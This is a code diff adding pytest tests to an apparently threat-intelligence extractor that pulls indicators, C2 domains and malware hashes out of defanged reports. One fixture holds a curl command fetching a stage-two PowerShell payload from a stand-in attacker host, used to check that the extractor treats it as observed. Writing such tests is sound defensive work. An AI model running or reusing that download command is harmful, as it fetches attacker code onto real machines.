@@ -7,6 +7,7 @@ import pytest
 from extract_helpers import block, mentions, roles, stated
 from samehand.extract.clean import prepared
 from samehand.extract.layout import Layout
+from samehand.extract.observables import extract
 from samehand.read.document import Block, Document
 
 #: A report in which values are written defanged, so that plain links are for reading.
@@ -246,3 +247,32 @@ def test_innermost_block_of_nested_ones() -> None:
     for place in range(len(text)):
         box = layout.box(place)
         assert (box.kind if box else "") == naive(place), place
+
+
+@pytest.mark.parametrize(
+    ("text", "value", "role"),
+    [
+        ("Connections to victim-portal[.]com and other[.]net.", "other.net", "indicator"),
+        ("sinkhole-me[.]com evil-real[.]com", "evil-real.com", "indicator"),
+        ("panel.badhost[.]top and ourhost[.]org", "ourhost.org", "indicator"),
+        ("The C2 server, victim-portal[.]com and other[.]net.", "other.net", "c2"),
+    ],
+)
+def test_words_inside_other_values_are_no_words(text: str, value: str, role: str) -> None:
+    found = {m.feature.value: m.role for m in extract(Document("a.txt", "text", text))}
+    assert found[value] == role
+
+
+def test_legitimate_speaks_within_its_sentence() -> None:
+    text = "Legitimate software such as 7-zip was used. The loader is " + "0408a819eb82dca5" * 2
+    (mention,) = (m for m in extract(Document("a", "text", text)) if "md5" in m.feature.kind)
+    assert mention.role == "malware"
+
+
+def test_commands_in_a_block_of_code_hold_what_was_seen() -> None:
+    code = "curl -o /tmp/x http://payload.badsite.com/stage2.ps1"
+    text = f"C2: one[.]evil.com, two[.]evil.com\n```\n{code}\n```\n"
+    start = text.index(code)
+    document = Document("a.md", "markdown", text, blocks=(Block("code", start, start + len(code)),))
+    found = {m.feature.value: m.role for m in extract(document)}
+    assert found["http://payload.badsite.com/stage2.ps1"] != "reference"
